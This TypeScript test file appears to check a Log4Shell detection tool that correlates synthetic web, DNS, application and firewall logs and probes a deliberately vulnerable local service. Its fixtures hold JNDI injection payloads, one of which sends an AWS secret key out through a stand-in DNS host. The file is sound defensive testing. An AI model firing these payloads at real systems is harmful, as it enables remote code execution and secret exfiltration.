import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { reportSchema } from '../../src/contract/index.ts'
import type { AttackFinding } from '../../src/core/index.ts'
import { type Ended, fireline } from '../kit/fireline.ts'
import { startVulnerableService } from '../kit/vulnerable-service.ts'

const root = mkdtempSync(join(tmpdir(), 'fireline-joins-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))

const access = (time: string, payload: string, from = '203.0.113.83'): string =>
  `${from} - - [10/Dec/2021:${time} +0000] "GET /login HTTP/1.1" 200 612 "-" "${payload}"\n`
const query = (time: string, name: string, by = '10.0.0.5'): string =>
  `10-Dec-2021 ${time}.416 queries: info: client @0x7f2a40 ${by}#53211 (${name}): query: ${name} IN A +E(0)K (10.0.0.53)\n`
const packet = (time: string, to: string, port: number): string =>
  `Dec 10 ${time} fw kernel: [1.5] OUT: IN= OUT=eth0 SRC=10.0.0.5 DST=${to} LEN=60 PROTO=TCP SPT=40000 DPT=${port} SYN\n`

/** One incident as the logs of its machines tell it, with near misses of each kind. */
const incident: Readonly<Record<string, string>> = {
  'web/access.log':
    access('12:00:00', '${jndi:ldap://198.51.100.66:1389/Exploit}') +
    access('12:10:00', '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.leak.example/a}') +
    access('12:20:00', '${jndi:ldap://x.resolved.example/a}') +
    access('12:30:00', '${jndi:ldap://x.before.example/a}') +
    access('12:40:00', '${jndi:ldap://x.late.example/a}') +
    access('12:50:00', '${jndi:ldap://x.other.example/a}') +
    access('13:00:00', '${jndi:ldap://x.behalf.example/a}') +
    access('13:10:00', '${jndi:ldap://198.51.100.77:1389/a}'),
  'app/app.log':
    '2021-12-10 12:00:00,412 main WARN Error looking up JNDI resource [ldap://198.51.100.66:1389/Exploit]. javax.naming.CommunicationException\n' +
    '2021-12-10 12:20:01,000 INFO user Reference Class Name: Exploit logged in\n',
  'dns/named.log':
    query('12:00:00', 'www.example') +
    query('12:10:01', 'wJalrXUtnFEMI.leak.example') +
    query('12:20:01', 'x.resolved.example') +
    query('12:25:00', 'x.before.example') +
    query('12:55:00', 'x.late.example') +
    query('12:50:01', 'y.other.example') +
    query('13:00:01', 'x.behalf.example', '10.0.0.53'),
  'fw/kern.log':
    packet('12:00:01', '198.51.100.66', 1_389) +
    packet('13:10:01', '198.51.100.78', 1_389) +
    packet('13:10:01', '198.51.100.77', 51_000),
}

const writtenAt = new Date('2021-12-11T00:00:00Z')

let ended: Ended

beforeAll(async () => {
  for (const [name, text] of Object.entries(incident)) {
    mkdirSync(join(root, 'incident', name, '..'), { recursive: true })
    writeFileSync(join(root, 'incident', name), text)
    // What syslog wrote has the year in which its file was written.
    utimesSync(join(root, 'incident', name), writtenAt, writtenAt)
  }
  ended = await fireline(['hunt', join(root, 'incident'), '--format', 'json', '--since', '2021-12-10'])
})

interface Report {
  readonly findings: readonly AttackFinding[]
  readonly notes: readonly string[]
  readonly campaigns: readonly { readonly host: string; readonly outcome: string }[]
  readonly stats: Readonly<Record<string, number>>
}

function report(): Report {
  return JSON.parse(ended.stdout) as Report // held against the schema below
}

test('each attack of an incident has what came of it, and the near misses have nothing', () => {
  const came = report()
    .findings.filter(({ verdict }) => verdict === 'fires')
    .map(({ lookup, outcome, evidence }) => {
      const seen = evidence.flatMap((each) => (each.kind === 'witness' ? [each.source.split('/').at(-1)] : []))
      return [lookup.host, outcome, ...seen]
    })

  expect(came).toEqual([
    ['198.51.100.66', 'likely', 'app.log', 'kern.log'],
    ['${env:AWS_SECRET_ACCESS_KEY}.leak.example', 'callback-seen', 'named.log'],
    ['x.resolved.example', 'likely', 'app.log', 'named.log'],
    ['x.before.example', 'attempt'],
    ['x.late.example', 'attempt'],
    ['x.other.example', 'attempt'],
    ['x.behalf.example', 'likely', 'named.log'],
    ['198.51.100.77', 'attempt'],
  ])
  expect(ended.code).toBe(1)
})

test('the report is of its schema, names what lay outside of the window, and where it was looked', () => {
  const { notes, stats, campaigns } = report()

  expect(() => reportSchema.parse(JSON.parse(ended.stdout))).not.toThrow()
  expect(notes.join('\n')).toMatch(/looked for in \S+named.log, \S+kern.log/)
  expect(notes.join('\n')).toMatch(/x\.before\.example was asked for, or connected to, 1 time outside/)
  expect(notes.join('\n')).toMatch(/x\.late\.example was asked for, or connected to, 1 time outside/)
  expect(stats).toMatchObject({ likely: 3, callbackSeen: 1 })
  expect(campaigns[0]).toMatchObject({ host: '*.leak.example', outcome: 'callback-seen' })
})

test('the secret that left is in the report, marked', () => {
  const [leak] = report().findings.filter(({ outcome }) => outcome === 'callback-seen')

  expect(leak?.lookup.reads).toContain('env:AWS_SECRET_ACCESS_KEY')
  expect(leak?.leaks).toContainEqual(expect.objectContaining({ read: 'env:AWS_SECRET_ACCESS_KEY', secret: true }))
})

test('a wider window takes in what was late, and none looks for nothing', async () => {
  const outcomes = async (window: string): Promise<readonly string[]> => {
    const { stdout } = await fireline(['hunt', join(root, 'incident'), '--format', 'json', '--window', window])
    const { findings } = JSON.parse(stdout) as Report // held against the schema above
    return findings.filter(({ lookup }) => lookup.host === 'x.late.example').map(({ outcome }) => outcome)
  }

  expect(await outcomes('20m')).toEqual(['likely'])
  expect(await outcomes('0')).toEqual(['attempt'])
  expect((await fireline(['hunt', root, '--window', 'soon'])).code).toBe(3)
})

test('a real probe, received by a real catch, is known as ours, and seen to have called back', async () => {
  const service = await startVulnerableService(['user-agent'])
  const journal = join(root, 'journal')
  const key = createHash('sha256').update('catch').digest('hex')
  const env = { FIRELINE_CATCH_KEY: key }
  const admin = await new Promise<{ port: string; stop: () => Promise<Ended> }>((resolve) => {
    const listening = fireline(
      ['catch', '--dns', '127.0.0.1:0', '--tcp', '127.0.0.1:0', '--public-address', '127.0.0.1', '--journal', journal],
      {
        env,
        onStart(child) {
          let told = ''
          child.stderr?.on('data', (bytes: Buffer) => {
            told += bytes.toString()
            const port = /health and metrics: port (\d+)/.exec(told)?.[1]
            if (port === undefined) return
            const stop = (): Promise<Ended> => {
              child.kill('SIGINT')
              return listening
            }
            resolve({ port, stop })
          })
        },
      },
    )
  })
  await fireline(
    ['probe', service.url, '--catch', `http://127.0.0.1:${admin.port}`, '--points', 'header', '--wait', '1'],
    { env },
  )
  await admin.stop()
  const log = service.received.map(({ url, headers }) => {
    const agent = headers[headers.findIndex((name) => name.toLowerCase() === 'user-agent') + 1] ?? '-'
    return `{"ts":${Date.now()},"url":${JSON.stringify(url)},"ua":${JSON.stringify(agent)}}\n`
  })
  writeFileSync(join(root, 'service.log'), log.join(''))

  const { stdout } = await fireline(['hunt', join(root, 'service.log'), journal, '--format', 'json'])
  const { findings } = JSON.parse(stdout) as Report // held against the schema above

  const called = findings.filter(({ outcome }) => outcome === 'callback-seen')
  expect(called.map(({ lookup }) => lookup.scheme).sort()).toEqual(['dns', 'ldap'])
  for (const { scanner, evidence } of called) {
    expect(scanner).toContain('sealed under the key')
    expect(evidence.at(-1)).toMatchObject({ kind: 'witness', format: 'fireline-catch' })
  }
}, 60_000)

test('a request whose attack Log4j wrote over is found by its id in another log, packed or not', async () => {
  const id = '7f3c2a10-5b1e-4c8e-9a53-0d2f6b7c8d9e'
  const folder = join(root, 'requests')
  mkdirSync(folder)
  const line = { time: '2021-12-10T12:00:00Z', remote_addr: '203.0.113.9', request_id: id, request: 'GET /login' }
  const attack = { ...line, http_user_agent: '${jndi:ldap://x.evil.example/a:-Mozilla/5.0 (compatible)}' }
  writeFileSync(join(folder, 'access.json'), `${JSON.stringify(attack)}\n`)
  const app = `2021-12-10 12:00:01,000 INFO [http-1] c.e.Login - [${id}] login by Mozilla/5.0 (compatible)\n`
  writeFileSync(join(folder, 'app.log.gz'), gzipSync(app))

  const { stdout } = await fireline(['hunt', folder, '--format', 'json'])
  const [finding, ...others] = (JSON.parse(stdout) as Report).findings

  expect(others).toEqual([])
  expect(finding).toMatchObject({ outcome: 'likely', lookup: { host: 'x.evil.example' } })
  expect(finding?.evidence.at(-1)).toMatchObject({
    kind: 'witness',
    source: expect.stringMatching(/app\.log\.gz$/) as string,
    line: 1,
  })
})
